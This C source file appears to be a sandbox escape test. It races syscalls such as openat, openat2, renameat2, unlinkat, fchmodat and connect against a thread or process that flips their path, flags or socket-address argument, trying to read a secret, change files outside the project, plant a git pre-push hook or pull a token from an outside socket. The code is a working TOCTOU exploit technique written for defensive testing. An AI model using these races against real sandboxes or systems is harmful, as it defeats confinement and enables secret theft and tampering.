/* Swap the name while the decision is made: one thread flips a string between an open and a closed
 * name, another makes system calls with it (path names, rename pairs, openat2's structure, a socket's
 * address), also from memory shared with another process.
 * Escape: the secret is read, or something outside the project changes.
 * Trap: check the string, then let the kernel read it again (TOCTOU after CONTINUE). */
#include "_attack.h"
#include <linux/openat2.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/xattr.h>

static char *shared; /* the string that flips */
static char good[512], bad[512];
static atomic_int stop;
#define ROUNDS_MS 220

static void flip_until_stopped(void)
{
    size_t n = 512;
    while (!stop) {
        memcpy(shared, good, n);
        for (volatile int i = 0; i < 300; i++) { }
        memcpy(shared, bad, n);
        for (volatile int i = 0; i < 300; i++) { }
    }
}
static void *flipper(void *unused) { flip_until_stopped(); return unused; }

static long now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void aim(const char *g, const char *b)
{
    memset(good, 0, sizeof good);
    memset(bad, 0, sizeof bad);
    strcpy(good, g);
    strcpy(bad, b);
    shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    memcpy(shared, good, 512);
}

static int race(int (*once)(void), char *why, int by_process)
{
    pthread_t t;
    pid_t pid = 0;
    long end;
    int won = 0, tries = 0;
    if (by_process) {
        if ((pid = fork()) == 0) {
            for (long till = now_ms() + 2000; now_ms() < till;) {
                for (int i = 0; i < 200; i++) {
                    memcpy(shared, good, 512);
                    memcpy(shared, bad, 512);
                }
            }
            _exit(0);
        }
    } else
        pthread_create(&t, NULL, flipper, NULL);
    end = now_ms() + ROUNDS_MS;
    while (!won && now_ms() < end) {
        won = once();
        tries++;
    }
    stop = 1;
    if (by_process) {
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
    } else
        pthread_join(t, NULL);
    sprintf(why, "%d tries", tries);
    return won;
}

static char *evidence;
static int once_open(void)
{
    int fd = (int)syscall(SYS_openat, AT_FDCWD, shared, O_RDONLY, 0);
    if (fd < 0)
        return 0;
    evidence = leak_fd(fd);
    close(fd);
    return evidence != NULL;
}
static int do_read(char *why, const char *closed, int by_process)
{
    aim(join(arena("project"), "/notes.txt"), closed);
    int won = race(once_open, why, by_process);
    if (won)
        strcpy(why, evidence);
    return won;
}
static int try_secret(char *why) { return do_read(why, arena("secret"), 0); }
static int try_hole(char *why) { return do_read(why, arena("hole_file"), 0); }
static int try_secret_shared(char *why) { return do_read(why, arena("secret"), 1); }

/* openat2 reads its flags from memory: reading is allowed, writing is not */
static struct open_how *how;
static int once_openat2(void)
{
    memset(how, 0, sizeof *how);
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, arena("readonly_file"), shared, sizeof *how);
    if (fd < 0)
        return 0;
    int writable = (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY;
    close(fd);
    return writable;
}
static int try_openat2(char *why)
{
    aim("", "");
    struct open_how h = {.flags = O_WRONLY};
    memcpy(bad, &h, sizeof h);
    how = malloc(sizeof *how);
    int won = race(once_openat2, why, 0);
    if (won)
        strcpy(why, "a file that may only be read is open for writing");
    return won;
}

static int gone(const char *path) { struct stat st; return lstat(path, &st) != 0; }
static int once_unlink(void)
{
    syscall(SYS_unlinkat, AT_FDCWD, shared, 0);
    close(open(good, O_CREAT | O_WRONLY, 0600));
    return gone(bad);
}
static int try_unlink(char *why)
{
    aim(join(arena("project"), "/scratch"), join(arena("outside"), "/victim-unlink"));
    int won = race(once_unlink, why, 0);
    if (won)
        strcpy(why, "a file outside is gone");
    return won;
}
static int once_rename(void)
{
    syscall(SYS_renameat2, AT_FDCWD, shared, AT_FDCWD, join(arena("project"), "/taken"), 0);
    close(open(good, O_CREAT | O_WRONLY, 0600));
    return gone(bad);
}
static int try_rename(char *why)
{
    aim(join(arena("project"), "/scratch2"), join(arena("outside"), "/victim-rename"));
    int won = race(once_rename, why, 0);
    if (won)
        strcpy(why, "a file outside was moved into the project");
    return won;
}
static int once_target(void)
{
    char *from = join(arena("project"), "/scratch3");
    close(open(from, O_CREAT | O_WRONLY, 0600));
    syscall(SYS_renameat2, AT_FDCWD, from, AT_FDCWD, shared, 0);
    return !gone(bad);
}
static int try_rename_to(char *why)
{
    aim(join(arena("project"), "/moved"), join(arena("hooks"), "/pre-push"));
    int won = race(once_target, why, 0);
    if (won)
        strcpy(why, "a hook was moved into place");
    return won;
}
static int once_link(void)
{
    char *to = join(arena("project"), "/linked");
    unlink(to);
    if (syscall(SYS_linkat, AT_FDCWD, shared, AT_FDCWD, to, 0))
        return 0;
    struct stat a, b;
    return !stat(bad, &a) && !stat(to, &b) && a.st_ino == b.st_ino;
}
static int try_link(char *why)
{
    aim(join(arena("project"), "/notes.txt"), arena("hole_file"));
    int won = race(once_link, why, 0);
    if (won)
        strcpy(why, "a closed file has a second name");
    return won;
}
static int once_chmod(void)
{
    struct stat st;
    syscall(SYS_fchmodat, AT_FDCWD, shared, 0640);
    return !stat(bad, &st) && (st.st_mode & 07777) == 0640;
}
static int try_chmod(char *why)
{
    aim(join(arena("project"), "/notes.txt"), arena("outside_file"));
    int won = race(once_chmod, why, 0);
    if (won)
        strcpy(why, "the mode of a file outside changed");
    return won;
}
static int once_truncate(void)
{
    struct stat st;
    syscall(SYS_truncate, shared, 3L);
    return !stat(bad, &st) && st.st_size == 3;
}
static int try_truncate(char *why)
{
    aim(join(arena("project"), "/notes2.txt"), arena("outside_file"));
    int won = race(once_truncate, why, 0);
    if (won)
        strcpy(why, "a file outside was cut");
    return won;
}
static int once_mkdir(void)
{
    syscall(SYS_mkdirat, AT_FDCWD, shared, 0700);
    rmdir(good);
    return !gone(bad);
}
static int try_mkdir(char *why)
{
    aim(join(arena("project"), "/newdir"), join(arena("outside"), "/newdir"));
    int won = race(once_mkdir, why, 0);
    if (won)
        strcpy(why, "a directory appeared outside");
    return won;
}
static int once_xattr(void)
{
    char v[8];
    setxattr(shared, "user.race", "x", 1, 0);
    return getxattr(bad, "user.race", v, sizeof v) == 1;
}
static int try_xattr(char *why)
{
    aim(join(arena("project"), "/notes.txt"), arena("readonly_file"));
    int won = race(once_xattr, why, 0);
    if (won)
        strcpy(why, "an attribute of a file outside was set");
    return won;
}
static int once_symlink(void)
{
    syscall(SYS_symlinkat, "/nowhere", AT_FDCWD, shared);
    unlink(good);
    return !gone(bad);
}
static int try_symlink(char *why)
{
    aim(join(arena("project"), "/newlink"), join(arena("outside"), "/newlink"));
    int won = race(once_symlink, why, 0);
    if (won)
        strcpy(why, "a link appeared outside");
    return won;
}
/* an address: the good one is a socket of the project, the bad one is outside */
static int once_connect(void)
{
    char buf[256];
    int s = socket(AF_UNIX, SOCK_STREAM, 0), won = 0;
    struct timeval tv = {0, 100000};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (!connect(s, (void *)shared, sizeof(struct sockaddr_un))) {
        ssize_t n = recv(s, buf, sizeof buf - 1, 0);
        if (n > 0) {
            buf[n] = 0;
            won = (evidence = strstr(buf, "TOKEN-")) != NULL;
            if (won) {
                evidence = strdup(evidence);
                evidence[strcspn(evidence, "\n")] = 0;
            }
        }
    }
    close(s);
    return won;
}
static int try_connect(char *why)
{
    struct sockaddr_un own = {.sun_family = AF_UNIX}, out = {.sun_family = AF_UNIX};
    if (chdir(arena("project")))
        return 0;
    strcpy(own.sun_path, "own.sock");
    unlink(own.sun_path);
    int l = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(l, (void *)&own, sizeof own) || listen(l, 64)) {
        strcpy(why, "own socket refused");
        return 0;
    }
    if (fork() == 0) {
        alarm(2);
        for (;;)
            close(accept(l, NULL, NULL));
    }
    strncpy(out.sun_path, arena("sock_stream"), sizeof out.sun_path - 1);
    aim("", "");
    memcpy(good, &own, sizeof own);
    memcpy(bad, &out, sizeof out);
    int won = race(once_connect, why, 0);
    if (won)
        strcpy(why, evidence);
    return won;
}

int main(void)
{
    attempt("open secret", try_secret, 1500);
    attempt("open hole", try_hole, 1500);
    attempt("open secret from shared memory", try_secret_shared, 1500);
    attempt("openat2 flags", try_openat2, 1500);
    attempt("unlink", try_unlink, 1500);
    attempt("rename from", try_rename, 1500);
    attempt("rename to", try_rename_to, 1500);
    attempt("link", try_link, 1500);
    attempt("chmod", try_chmod, 1500);
    attempt("truncate", try_truncate, 1500);
    attempt("mkdir", try_mkdir, 1500);
    attempt("xattr", try_xattr, 1500);
    attempt("symlink", try_symlink, 1500);
    attempt("connect", try_connect, 1500);
    return finish();
}
